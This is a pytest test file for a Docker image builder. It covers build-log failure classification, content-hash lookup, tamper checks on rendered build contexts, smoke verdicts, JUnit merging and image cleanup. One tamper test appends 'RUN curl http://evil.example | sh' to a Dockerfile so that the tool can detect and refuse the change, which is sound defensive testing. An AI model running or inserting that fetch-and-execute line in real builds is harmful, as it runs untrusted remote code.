"""The pure decisions around build and test: network-flake classification, what is already built,
whether images/ is current, smoke verdicts, and JUnit counting and merging. No engine involved.
"""

from __future__ import annotations

import shutil
import subprocess
import textwrap
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path

import pytest

from builder.engine import image_build
from builder.engine.build import HASH_LABEL, built_hashes
from builder.engine.failures import NETWORK_PATTERNS, diagnose_build, is_tls_failure
from builder.engine.image_build import BuildFailed, NetworkFlake, Run
from builder.engine.port import Layer, Progress
from builder.engine.settings import BuildSettings
from builder.engine.staging import Staged
from builder.model.plan import Accelerator, Base, ImageSpec
from builder.model.results import TestCounts, verdict_of
from builder.render.tree import write_tree
from builder.smoke.runner import Workdir, _junit_counts, checks_env, merge_junit, pytest_argv
from builder.usecases.build import check_rendered
from builder.util.errors import UserError
from builder.workspace import Workspace
from tests.fake_engine import FakeEngine

# -- NETWORK_PATTERNS -------------------------------------------------------------------------
NETWORK_FAILURES = [
    # pip, DNS down
    "WARNING: Retrying (Retry(total=4, connect=None, read=None, redirect=None, status=None)) after connection broken by "
    "'NewConnectionError('<pip._vendor.urllib3.connection.HTTPSConnection object at 0x7f3c2a1b5d50>: Failed to establish "
    "a new connection: [Errno -3] Temporary failure in name resolution')': /simple/torch/",
    # pip, slow mirror
    "pip._vendor.urllib3.exceptions.ReadTimeoutError: HTTPSConnectionPool(host='files.pythonhosted.org', port=443): Read timed out.",
    "ERROR: Exception:\nTraceback (most recent call last):\n  ...\nReadTimeoutError: HTTPSConnectionPool(host='download.pytorch.org', port=443)",
    "pip._vendor.urllib3.exceptions.ConnectTimeoutError: (<HTTPSConnection(host='pypi.org', port=443)>, 'Connection to pypi.org timed out.')",
    # pip, reset mid-download
    "ERROR: Could not install packages due to an OSError: [Errno 104] Connection reset by peer",
    "pip._vendor.urllib3.exceptions.ProtocolError: ('Connection broken: IncompleteRead(1048576 bytes read, 734003200 more expected)', "
    "IncompleteRead(1048576 bytes read, 734003200 more expected))",
    "ERROR: HTTP error 503 while getting https://download.pytorch.org/whl/cpu/torch-2.13.0%2Bcpu-cp311-cp311-manylinux_2_28_x86_64.whl",
    "ERROR: Could not install packages due to an OSError: HTTPSConnectionPool(host='pypi.org', port=443): Max retries exceeded "
    "with url: /simple/numpy/ (Caused by ProxyError('Unable to connect to proxy', OSError('Tunnel connection failed: 502 Bad Gateway')))",
    # uv 0.13.9 (a locked image's installer), as it printed them here
    "error: Request failed after 3 retries in 7.6s\n  cause: Failed to fetch: http://127.0.0.1:9/simple/numba/\n"
    "  cause: error sending request for url (http://127.0.0.1:9/simple/numba/)\n  cause: client error (Connect)\n"
    "  cause: tcp connect error\n  cause: Connection refused (os error 111)",
    "  cause: client error (Connect)\n  cause: dns error\n  cause: error resolving DNS\n"
    "  cause: failed to lookup address information: Name does not resolve",
    "error: Request failed after 3 retries in 4.2s\n  cause: Failed to fetch: http://127.0.0.1:8771/simple/numba/\n"
    "  cause: HTTP status server error (503 Service Unavailable) for url (http://127.0.0.1:8771/simple/numba/)",
    # apt
    "E: Failed to fetch http://deb.debian.org/debian/pool/main/p/python3.11/python3.11_3.11.2-6+deb12u6_amd64.deb  "
    "Temporary failure resolving 'deb.debian.org'",
    "E: Failed to fetch http://archive.ubuntu.com/ubuntu/dists/jammy/InRelease  Could not connect to archive.ubuntu.com:80 "
    "(185.125.190.36), connection timed out",
    "E: Failed to fetch https://repo.radeon.com/rocm/apt/6.2/dists/jammy/InRelease  Connection failed [IP: 13.82.220.49 443]",
    "E: Failed to fetch http://archive.ubuntu.com/ubuntu/dists/jammy-updates/main/binary-amd64/Packages.xz  Hash Sum mismatch",
    "W: Some index files failed to download. They have been ignored, or old ones used instead.\n"
    "E: Failed to fetch http://security.ubuntu.com/ubuntu/dists/jammy-security/InRelease  Connection refused",
]

DETERMINISTIC_FAILURES = [
    "ERROR: Could not find a version that satisfies the requirement torch==9.9 (from versions: 2.5.1, 2.13.0)\n"
    "ERROR: No matching distribution found for torch==9.9",
    "ERROR: Cannot install numba==0.60.0 and numpy==2.4.6 because these package versions have conflicting dependencies.\n\n"
    "The conflict is caused by:\n    The user requested numpy==2.4.6\n    numba 0.60.0 depends on numpy<2.1 and >=1.22\n\n"
    "ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-resolution/#dealing-with-dependency-conflicts",
    "ERROR: pip's dependency resolver does not currently take into account all the packages that are installed. This behaviour "
    "is the source of the following dependency conflicts.\nnumba 0.60.0 requires numpy<2.1,>=1.22, but you have numpy 2.4.6 which is incompatible.",
    "numba 0.60.0 has requirement numpy<2.1,>=1.22, but you have numpy 2.4.6.",
    "dockerfile parse error on line 17: unknown instruction: RUNN",
    "Error response from daemon: dockerfile parse error line 3: FROM requires either one or three arguments",
    "/bin/sh: 1: Syntax error: Unterminated quoted string",
    "E: Unable to locate package python3.13-venv",
    "E: Package 'python3.12-venv' has no installation candidate",
    "ERROR: torch-2.13.0+cpu-cp312-cp312-manylinux_2_28_x86_64.whl is not a supported wheel on this platform.",
    "ERROR: HTTP error 404 while getting https://download.pytorch.org/whl/cpu/torch-9.9.9%2Bcpu-cp311-cp311-linux_x86_64.whl",
    "ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.",
    "The command '/bin/sh -c set -eu; /opt/venv/bin/python -m pip check' returned a non-zero code: 1",
    # uv 0.13.9, as it printed them here
    "error: No solution found when resolving dependencies\n  cause: Because there is no version of numba==99.0 and you "
    "require numba==99.0, we can conclude that your requirements are unsatisfiable.",
    "error: Failed to download `numba==0.68.0`\n  cause: Hash mismatch for `numba==0.68.0`\n\n         Expected:\n"
    "           sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "hint: An index URL (http://127.0.0.1:8772/simple) could not be queried due to a lack of valid authentication "
    "credentials (401 Unauthorized)",
]


@pytest.mark.parametrize(
    ("log", "cause"),
    [
        (
            "  cause: client error (Connect)\n  cause: invalid peer certificate: UnknownIssuer",
            "TLS verification failed inside the build",
        ),
        (DETERMINISTIC_FAILURES[-3], "no index the build can reach offers numba==99.0"),
        ("  cause: Because numba was not found in the package registry and you require", "no index the build can reach offers numba for"),
        (DETERMINISTIC_FAILURES[-2], "does not match the hash pinned for it"),
        (DETERMINISTIC_FAILURES[-1], "refused the build's credentials"),
    ],
)
def test_uvs_failures_get_the_same_diagnoses_as_pips(log: str, cause: str) -> None:
    found = diagnose_build(log, "/etc/ssl/certs/ca-certificates.crt")
    assert found is not None and cause in found[0], found
    assert is_tls_failure(log) is cause.startswith("TLS")


@pytest.mark.parametrize("log", NETWORK_FAILURES)
def test_network_failures_are_retryable(log: str) -> None:
    assert NETWORK_PATTERNS.search(log) is not None


@pytest.mark.parametrize("log", DETERMINISTIC_FAILURES)
def test_deterministic_failures_are_not_retried(log: str) -> None:
    assert NETWORK_PATTERNS.search(log) is None


def test_network_patterns_ignore_case() -> None:
    assert NETWORK_PATTERNS.search("TEMPORARY FAILURE IN NAME RESOLUTION")
    assert NETWORK_PATTERNS.search("connection reset by peer")


# How one failed attempt is classified: a fake engine streams a build log (no Docker).
RECOVERED_RETRY = (
    "WARNING: Retrying (Retry(total=4, connect=None, read=None, redirect=None, status=None)) after connection broken by "
    "'ReadTimeoutError(\"HTTPSConnectionPool(host='pypi.org', port=443): Read timed out. (read timeout=15)\")': /simple/numpy/\n"
)


def _attempt(tmp_path: Path, chunks: list[dict[str, str]]) -> None:
    """One build attempt whose engine streams `chunks` (the engine's build stream, as the adapter reads it)."""
    fake = FakeEngine()
    fake.build_output = lambda request: [Progress(text=c.get("stream", ""), error=c.get("error", "")) for c in chunks]
    run = Run(settings=BuildSettings(), build_dir=tmp_path, lock_dir=tmp_path)
    image_build._attempt(run, fake, A, Staged(tmp_path, (), ()), image_build.Served(), tmp_path / "build.log", 1)


def test_attempt_failing_on_a_network_error_is_a_flake(tmp_path: Path) -> None:
    with pytest.raises(NetworkFlake):
        _attempt(
            tmp_path,
            [{"stream": "Collecting numpy==2.4.6\n"}, {"stream": NETWORK_FAILURES[1] + "\n"}, {"error": "returned a non-zero code: 2"}],
        )


def test_attempt_failing_deterministically_is_not_a_flake(tmp_path: Path) -> None:
    with pytest.raises(BuildFailed):
        _attempt(tmp_path, [{"stream": DETERMINISTIC_FAILURES[0] + "\n"}, {"error": "returned a non-zero code: 1"}])


def test_recovered_pip_retry_does_not_make_a_resolver_error_a_flake(tmp_path: Path) -> None:
    """pip logs a retry warning, the download then succeeds, and the resolver fails: deterministic, fail once."""
    chunks = [
        {"stream": RECOVERED_RETRY},
        {"stream": "Collecting numpy==2.4.6\n  Downloading numpy-2.4.6-cp311-cp311-manylinux_2_17_x86_64.whl (16.4 MB)\n"},
        {"stream": DETERMINISTIC_FAILURES[1] + "\n"},
        {"error": "The command '/bin/sh -c set -eu; ...' returned a non-zero code: 1"},
    ]
    with pytest.raises(BuildFailed):
        _attempt(tmp_path, chunks)


# -- built_hashes -----------------------------------------------------------------------------
def test_built_hashes_maps_every_tag_to_its_hash() -> None:
    fake = FakeEngine()
    fake.add_image("sha256:1", "reg/x:a", "reg/x:a-latest", labels={HASH_LABEL: "sha256:aaa", "other": "1"})
    fake.add_image("sha256:2", "reg/x:b", labels={HASH_LABEL: "sha256:bbb"})
    fake.add_image("sha256:3", labels={HASH_LABEL: "sha256:dangling"})
    fake.add_image("sha256:5", "reg/x:c", labels={"other": "1"})  # not ours: no content hash
    assert built_hashes(fake) == {"reg/x:a": "sha256:aaa", "reg/x:a-latest": "sha256:aaa", "reg/x:b": "sha256:bbb"}
    assert fake.listings == [(HASH_LABEL, False, False)], "one engine call"


def test_built_hashes_empty_engine() -> None:
    assert built_hashes(FakeEngine()) == {}


def test_hash_label_name() -> None:
    assert HASH_LABEL == "io.builder.content-hash"


# -- check_rendered: build refuses a context that differs from what the plan renders ------------
def _spec(image_id: str, content_hash: str) -> ImageSpec:
    return ImageSpec(
        id=image_id,
        tag=f"reg/x:{image_id}",
        base=Base("local-debian12", "cpu", "debian12", bootstrap="debootstrap"),
        stack="numeric",
        python="3.11",
        frameworks=(("numba", "0.68.0"),),
        installs=(),
        packages=("numba==0.68.0", "numpy==2.4.6"),
        index_urls=(),
        accelerator=Accelerator("cpu", None),
        content_hash=content_hash,
    )


A = _spec("numba0.68.0-cpu-py3.11-debian12", "sha256:" + "a" * 64)
LOCAL_MATRIX = """\
registry: reg/x
bases:
  local-debian12: {vendor: cpu, os: debian12, bootstrap: debootstrap}
python: ["3.11"]
frameworks:
  numba: ["0.68.0"]
  jax: ["0.10.2"]
stacks:
  numba: [numba]
  jax: [jax]
"""


@pytest.fixture
def rendered_ws(tmp_path: Path) -> Workspace:
    (tmp_path / "matrix.yaml").write_text(LOCAL_MATRIX, encoding="utf-8")
    ws = Workspace(tmp_path / "matrix.yaml")
    write_tree(ws.images_dir, ws.rendered_tree())
    return ws


def _refused(ws: Workspace, path: str) -> None:
    specs = ws.selected(None, use_default=False)
    with pytest.raises(UserError) as info:
        check_rendered(ws, specs)
    assert str(info.value).startswith(f"images/{path} differs from what the plan renders"), str(info.value)
    assert "run `builder render`" in str(info.value)


def test_check_rendered_passes_for_matching_images(rendered_ws: Workspace) -> None:
    check_rendered(rendered_ws, rendered_ws.selected(None, use_default=False))  # no error
    check_rendered(rendered_ws, ())


def test_check_rendered_refuses_a_hand_edited_dockerfile(rendered_ws: Workspace) -> None:
    image = rendered_ws.decided.images[0].id
    path = rendered_ws.images_dir / image / "Dockerfile"
    path.write_text(path.read_text(encoding="utf-8") + "RUN curl http://evil.example | sh\n", encoding="utf-8")
    _refused(rendered_ws, f"{image}/Dockerfile")


def test_check_rendered_refuses_a_symlink_to_a_host_file(rendered_ws: Workspace, tmp_path: Path) -> None:
    image = rendered_ws.decided.images[0].id
    host_file = tmp_path / "host-secret.txt"
    host_file.write_text("secret\n", encoding="utf-8")
    (rendered_ws.images_dir / image / "notes.txt").symlink_to(host_file)
    _refused(rendered_ws, f"{image}/notes.txt")


def test_check_rendered_refuses_requirements_replaced_by_a_link_to_the_same_bytes(rendered_ws: Workspace, tmp_path: Path) -> None:
    image = rendered_ws.decided.images[0].id
    path = rendered_ws.images_dir / image / "requirements.txt"
    copy = tmp_path / "copy.txt"
    copy.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(copy)  # same content, but a link: never followed out of the context
    _refused(rendered_ws, f"{image}/requirements.txt")


def test_check_rendered_refuses_a_missing_file_or_folder(rendered_ws: Workspace) -> None:
    first, second = (s.id for s in rendered_ws.decided.images)
    (rendered_ws.images_dir / first / "image.json").unlink()
    _refused(rendered_ws, f"{first}/image.json")
    (rendered_ws.images_dir / first / "image.json").write_bytes(rendered_ws.rendered_tree()[f"{first}/image.json"])
    shutil.rmtree(rendered_ws.images_dir / second)
    _refused(rendered_ws, f"{second}/Dockerfile")


@pytest.mark.parametrize("raw", ["", "{not json", '{"id": "x"}', "[]"])
def test_check_rendered_refuses_a_broken_image_json(rendered_ws: Workspace, raw: str) -> None:
    image = rendered_ws.decided.images[0].id
    (rendered_ws.images_dir / image / "image.json").write_text(raw, encoding="utf-8")
    _refused(rendered_ws, f"{image}/image.json")


def test_check_rendered_names_a_folder_other_than_images(tmp_path: Path) -> None:
    (tmp_path / "matrix.yaml").write_text(LOCAL_MATRIX, encoding="utf-8")
    ws = Workspace(tmp_path / "matrix.yaml")
    with pytest.raises(UserError, match=r"^images/jax0.10.2-cpu-py3.11-debian12/Dockerfile differs"):
        check_rendered(ws, ws.selected(None, use_default=False))


# -- verdict_of -------------------------------------------------------------------------------
OK = {"tests": 7, "failures": 0, "errors": 0, "skipped": 0}


@pytest.mark.parametrize(
    ("returncode", "counts", "attached", "vendor", "verdict"),
    [
        # passed only with tests that ran clean, and for GPU images only with a GPU
        (0, OK, True, "cuda", "passed"),
        (0, OK, True, "rocm", "passed"),
        (0, OK, False, "cpu", "passed"),
        (0, OK, True, "cpu", "passed"),
        (0, {**OK, "skipped": 2}, True, "cuda", "passed"),
        # a GPU image without a GPU is never "passed"
        (0, OK, False, "cuda", "gpu-skipped"),
        (0, OK, False, "rocm", "gpu-skipped"),
        # failures, errors, non-zero exit, no tests
        (1, OK, True, "cuda", "failed"),
        (124, OK, False, "cpu", "failed"),
        (5, {"tests": 0, "failures": 0, "errors": 0, "skipped": 0}, True, "cuda", "failed"),
        (0, {**OK, "failures": 1}, True, "cuda", "failed"),
        (0, {**OK, "errors": 1}, False, "cpu", "failed"),
        (0, {**OK, "failures": 1}, False, "cuda", "failed"),
        (0, {**OK, "tests": 0}, False, "cpu", "failed"),
        (0, {}, True, "cuda", "failed"),
        (0, {}, False, "cuda", "failed"),
        (1, {}, False, "rocm", "failed"),
    ],
)
def test_verdict_of(returncode: int, counts: dict[str, int], attached: bool, vendor: str, verdict: str) -> None:
    assert verdict_of(returncode, TestCounts(**counts), attached, vendor) == verdict


@pytest.mark.parametrize("vendor", ["cuda", "rocm"])
@pytest.mark.parametrize("tests", [1, 3, 50])
def test_gpu_image_without_gpu_is_never_passed(vendor: str, tests: int) -> None:
    for returncode in (0, 1):
        assert verdict_of(returncode, TestCounts(tests=tests), False, vendor) != "passed"


def test_all_tests_skipped_is_not_passed() -> None:
    """Every smoke test skipped (e.g. conftest.py's skip when the BUILDER_SMOKE_* variables are missing)
    means nothing was checked: like zero tests, that must not be "passed" (and so never published)."""
    assert verdict_of(0, TestCounts(tests=5, failures=0, errors=0, skipped=5), True, "cuda") == "failed"


# -- JUnit ------------------------------------------------------------------------------------
PYTEST_JUNIT = """\
<?xml version="1.0" encoding="utf-8"?>
<testsuites name="pytest tests">
  <testsuite name="{name}" errors="1" failures="2" skipped="1" tests="6" time="3.2" timestamp="2026-11-30T01:00:00" hostname="h">
    <testcase classname="test_image" name="test_python_version" time="0.1"/>
    <testcase classname="test_image" name="test_torch_version" time="0.1">
      <failure message="AssertionError: torch 2.5.0 != 2.5.1&#10;assert '2.5.0' == '2.5.1'">long traceback</failure>
    </testcase>
    <testcase classname="test_image" name="test_gpu_matmul" time="0.1">
      <failure message="">no message</failure>
    </testcase>
    <testcase classname="test_image" name="test_probe" time="0.1">
      <error message="failed on setup with &quot;docker exec failed&quot;">setup error</error>
    </testcase>
    <testcase classname="test_image" name="test_rocm" time="0.0">
      <skipped type="pytest.skip" message="not a ROCm image">skip</skipped>
    </testcase>
    <testcase classname="test_image" name="test_user" time="0.1"/>
  </testsuite>
</testsuites>
"""

BARE_SUITE = """\
<?xml version="1.0" encoding="utf-8"?>
<testsuite name="{name}" errors="0" failures="0" skipped="0" tests="2" time="1.0">
  <testcase classname="test_image" name="test_python_version" time="0.1"/>
  <testcase classname="test_image" name="test_user" time="0.1"/>
</testsuite>
"""

TWO_SUITES = """\
<testsuites>
  <testsuite name="{name}-a" tests="2" failures="1"><testcase name="t1"><failure message="boom">x</failure></testcase><testcase name="t2"/></testsuite>
  <testsuite name="{name}-b" tests="3" errors="0" skipped="3"/>
</testsuites>
"""


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def test_junit_counts_pytest_layout(tmp_path: Path) -> None:
    counts, failures = _junit_counts(_write(tmp_path / "junit.xml", PYTEST_JUNIT.format(name="img")))
    assert counts.to_json() == {"tests": 6, "failures": 2, "errors": 1, "skipped": 1}
    assert failures == [
        "test_torch_version: AssertionError: torch 2.5.0 != 2.5.1",
        "test_gpu_matmul: failed",
        'test_probe: failed on setup with "docker exec failed"',
    ]


def test_junit_counts_bare_testsuite(tmp_path: Path) -> None:
    counts, failures = _junit_counts(_write(tmp_path / "junit.xml", BARE_SUITE.format(name="img")))
    assert counts.to_json() == {"tests": 2, "failures": 0, "errors": 0, "skipped": 0}
    assert failures == []


def test_junit_counts_sums_suites_and_defaults_missing_attributes(tmp_path: Path) -> None:
    counts, failures = _junit_counts(_write(tmp_path / "junit.xml", TWO_SUITES.format(name="img")))
    assert counts.to_json() == {"tests": 5, "failures": 1, "errors": 0, "skipped": 3}
    assert failures == ["t1: boom"]


def test_junit_counts_missing_file(tmp_path: Path) -> None:
    assert _junit_counts(tmp_path / "nope.xml") == (TestCounts(), [])


def test_junit_failure_lines_are_bounded(tmp_path: Path) -> None:
    long = "x" * 1000
    text = f'<testsuite tests="1" failures="1"><testcase name="t"><failure message="{long}&#10;second line"/></testcase></testsuite>'
    _, failures = _junit_counts(_write(tmp_path / "junit.xml", text))
    assert failures == [("t: " + long)[:400]]
    assert len(failures[0]) == 400


def test_junit_counts_feed_the_verdict(tmp_path: Path) -> None:
    counts, _ = _junit_counts(_write(tmp_path / "bad.xml", PYTEST_JUNIT.format(name="img")))
    assert verdict_of(0, counts, True, "cuda") == "failed"
    counts, _ = _junit_counts(_write(tmp_path / "good.xml", BARE_SUITE.format(name="img")))
    assert verdict_of(0, counts, True, "cuda") == "passed"
    assert verdict_of(0, counts, False, "cuda") == "gpu-skipped"
    assert verdict_of(0, _junit_counts(tmp_path / "absent.xml")[0], True, "cpu") == "failed"


def test_merge_junit_one_suite_per_image_in_order(tmp_path: Path) -> None:
    results = tmp_path / "results"
    _write(results / "img-1" / "junit.xml", PYTEST_JUNIT.format(name="img-1"))
    _write(results / "img-2" / "junit.xml", BARE_SUITE.format(name="img-2"))
    _write(results / "img-4" / "junit.xml", TWO_SUITES.format(name="img-4"))
    _write(results / "not-selected" / "junit.xml", BARE_SUITE.format(name="not-selected"))
    out = merge_junit(results, ["img-2", "img-1", "img-3-not-run", "img-4"])
    assert out == results / "junit.xml"
    assert out.read_bytes().startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    root = ET.parse(out).getroot()
    assert root.tag == "testsuites"
    assert [s.get("name") for s in root] == ["img-2", "img-1", "img-4-a", "img-4-b"]
    assert all(s.tag == "testsuite" for s in root)
    assert [len(s.findall("testcase")) for s in root] == [2, 6, 2, 0]
    # the merged file counts as the sum of its parts
    counts, failures = _junit_counts(out)
    assert counts.to_json() == {"tests": 13, "failures": 3, "errors": 1, "skipped": 4}
    assert len(failures) == 4


def test_merge_junit_with_nothing_to_merge(tmp_path: Path) -> None:
    out = merge_junit(tmp_path, ["a", "b"])
    root = ET.parse(out).getroot()
    assert root.tag == "testsuites"
    assert list(root) == []
    assert _junit_counts(out) == (TestCounts(tests=0, failures=0, errors=0, skipped=0), [])


def test_merge_junit_overwrites_the_previous_merge(tmp_path: Path) -> None:
    _write(tmp_path / "img" / "junit.xml", BARE_SUITE.format(name="img"))
    merge_junit(tmp_path, ["img"])
    out = merge_junit(tmp_path, ["img"])
    assert [s.get("name") for s in ET.parse(out).getroot()] == ["img"]


# ---------------------------------------------------------------- issue #14, finding 20: clean finds unfinished images


def test_clean_removes_unfinished_images_of_our_builds_and_nothing_built_on_ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from builder.engine import leftovers
    from builder.engine.ownership import Owner
    from builder.render.labels import BUILT_BY_LABEL, WORKSPACE_LABEL

    owner = Owner(tmp_path, tmp_path / "build")
    monkeypatch.setenv("BUILDER_STATE_DIR", str(tmp_path / "state"))

    def engine(history: dict[str, str]) -> FakeEngine:
        """The images `clean` looks at (no containers); every image's last step is a CMD unless `history` says otherwise."""
        ours = {BUILT_BY_LABEL: "builder"}
        mine = {**ours, HASH_LABEL: "h", WORKSPACE_LABEL: owner.identity}
        fake = FakeEngine()
        fake.add_image("sha256:" + "1" * 64, labels=ours)  # an interrupted build's last step (in this workspace's ledger)
        fake.add_image("sha256:foreign", labels={"x": "y"})  # someone else's dangling image
        fake.add_image("sha256:derived", labels=mine)  # built FROM ours by someone else
        fake.add_image("sha256:superseded", labels=mine)  # ours, replaced by a newer build
        fake.add_image("sha256:current", "repo:tag", labels=mine)
        for image in fake.image_ids:
            fake.histories[image] = [Layer(history.get(image, '/bin/sh -c #(nop)  CMD ["x"]'), 0)]
        return fake

    owner.note_step("1" * 12)
    scope = leftovers.Scope(owner)
    fake = engine({"sha256:superseded": f"/bin/sh -c #(nop)  LABEL {HASH_LABEL}=h org.opencontainers.image.revision=x"})
    monkeypatch.setattr(leftovers, "other_active_runs", lambda: [])
    removed = leftovers.clean(fake, tmp_path, scope=scope, repository="repo", planned=None, everything=False, dry_run=False)
    assert sorted(fake.removed_images) == ["sha256:" + "1" * 64, "sha256:superseded"]
    assert sorted(removed.images) == ["1" * 12, "superseded"]

    owner.note_step("1" * 12)
    fake = engine({})
    monkeypatch.setattr(leftovers, "other_active_runs", lambda: ["host:1:2:abc"])
    removed = leftovers.clean(fake, tmp_path, scope=scope, repository="repo", planned=None, everything=False, dry_run=False)
    assert "sha256:" + "1" * 64 not in fake.removed_images, "a live build's newest step is an untagged leaf too"
    assert removed.skipped and "other run(s) are building now" in removed.skipped[0]


def test_clean_removes_the_build_stage_images_older_versions_kept_as_orphans(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 16: the Dockerfile has one stage, so builds make no build-stage image; an upgrading
    user's engine still holds the one generation per tag older versions kept. Nothing says which
    checkout made them (issue 37): `clean --orphans` removes them (never while another run is building)."""
    from builder.engine import leftovers
    from builder.engine.ownership import Owner
    from builder.render.labels import BUILT_BY_LABEL

    def engine() -> FakeEngine:
        fake = FakeEngine()
        fake.add_image("sha256:oldstage", labels={BUILT_BY_LABEL: "builder", HASH_LABEL: "h", leftovers.STAGE_LABEL: "repo:tag"})
        fake.add_image("sha256:current", "repo:tag", labels={BUILT_BY_LABEL: "builder", HASH_LABEL: "h"})
        for image in fake.image_ids:
            fake.histories[image] = [Layer('/bin/sh -c #(nop)  CMD ["x"]', 0)]
        return fake

    assert leftovers.STAGE_LABEL == "io.builder.stage-of"  # what older versions' templates set: never renamed
    monkeypatch.setenv("BUILDER_STATE_DIR", str(tmp_path / "state"))
    orphans = leftovers.Scope(Owner(tmp_path, tmp_path / "build"), orphans=True)
    fake = engine()
    monkeypatch.setattr(leftovers, "other_active_runs", lambda: [])
    plain = leftovers.clean(
        fake, tmp_path, scope=replace(orphans, orphans=False), repository="repo", planned=None, everything=False, dry_run=False
    )
    assert fake.removed_images == [] and any("--orphans" in note for note in plain.skipped), plain
    removed = leftovers.clean(fake, tmp_path, scope=orphans, repository="repo", planned=None, everything=False, dry_run=False)
    assert fake.removed_images == ["sha256:oldstage"] and removed.orphans == ["oldstage"] and removed.images == []
    fake = engine()
    monkeypatch.setattr(leftovers, "other_active_runs", lambda: ["host:1:2:abc"])
    leftovers.clean(fake, tmp_path, scope=orphans, repository="repo", planned=None, everything=False, dry_run=False)
    assert fake.removed_images == []


def test_a_build_makes_no_build_stage_and_lists_none(tmp_path: Path) -> None:
    """A build (one stage) looks for no build-stage image to tidy and passes no BUILDER_STAGE_OF."""
    fake = FakeEngine()
    run = Run(settings=BuildSettings(), build_dir=tmp_path, lock_dir=tmp_path, revision="0" * 40)
    result = image_build.build_image(run, fake, A, {"Dockerfile": b"FROM x\n"}, force=True)
    assert result.status == "built", result.error
    (request,) = fake.builds
    assert "BUILDER_STAGE_OF" not in request.buildargs
    assert not [label for label, _, _ in fake.listings if "stage-of" in label]


def test_waiting_for_another_build_of_the_tag_gives_up_on_an_interrupt(tmp_path: Path) -> None:
    """Attack on finding 15: a second build of a tag waits on the first's lock; SIGTERM must not wait for the first."""
    import threading
    import time

    stop = threading.Event()
    with image_build.tag_lock(tmp_path, "repo:tag"):
        threading.Timer(0.3, stop.set).start()
        started = time.monotonic()
        with pytest.raises(BuildFailed, match="interrupted"), image_build.tag_lock(tmp_path, "repo:tag", stop):
            pass
        assert time.monotonic() - started < 2


def test_the_callers_pytest_settings_stay_out_of_the_smoke_checks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A user's PYTEST_ADDOPTS (a plugin, --cov, -x) made the checks' pytest exit 4 on its command line
    and every image "failed"; the checks run on their own settings whatever the caller's shell says."""
    monkeypatch.setenv("PYTEST_ADDOPTS", "-p no_such_plugin --no-such-option")
    monkeypatch.setenv("PYTEST_PLUGINS", "no_such_plugin")
    monkeypatch.setenv("BUILDER_KEEP_ME", "1")
    root = Path(__file__).resolve().parents[1]
    (spec,) = Workspace.locate(str(root / "matrix.yaml")).selected("id=numba0.68.0-cpu-py3.11-debian12", use_default=False)
    work = Workdir(tmp_path / spec.id)
    work.prepare(spec)
    env = checks_env("0" * 64, work, attached=False, timeout_s=60)
    assert {name for name in env if name.startswith("PYTEST_")} == {"PYTEST_DISABLE_PLUGIN_AUTOLOAD"}
    assert env["BUILDER_KEEP_ME"] == "1" and env["BUILDER_SMOKE_GPU"] == "0", "the rest of the caller's environment is kept"
    # the checks' own pytest starts and collects with them (no container needed to collect)
    done = subprocess.run([*pytest_argv(spec, work), "--collect-only"], env=env, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    assert "test_versions_equal_the_plan" in done.stdout and "no_such_plugin" not in done.stdout + done.stderr


def test_the_logs_installer_note_is_never_the_builds_cause() -> None:
    """A build that fell back to pip notes why atop its log, quoting pip's "No matching distribution
    found for uv==..."; seen in a CI run: the build's own failure (pip's, further down) was then
    reported as "no index offers uv". The note is not the build's failure."""
    note = "# installer: pip (could not download uv-0.13.9-py3-none-musllinux_1_1_x86_64.whl (ERROR: No matching distribution found for uv==0.13.9); put that file into a local wheel folder)\n"
    assert diagnose_build(note + "Step 1/2 : FROM base\n", "ca.pem") is None
    found = diagnose_build(note + "ERROR: No matching distribution found for numba==0.68.0\n", "ca.pem")
    assert found is not None and "offers numba==0.68.0" in found[0], found
    found = diagnose_build(note + "ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.\n", "ca.pem")
    assert found is not None and "does not match the hash pinned for it" in found[0], found
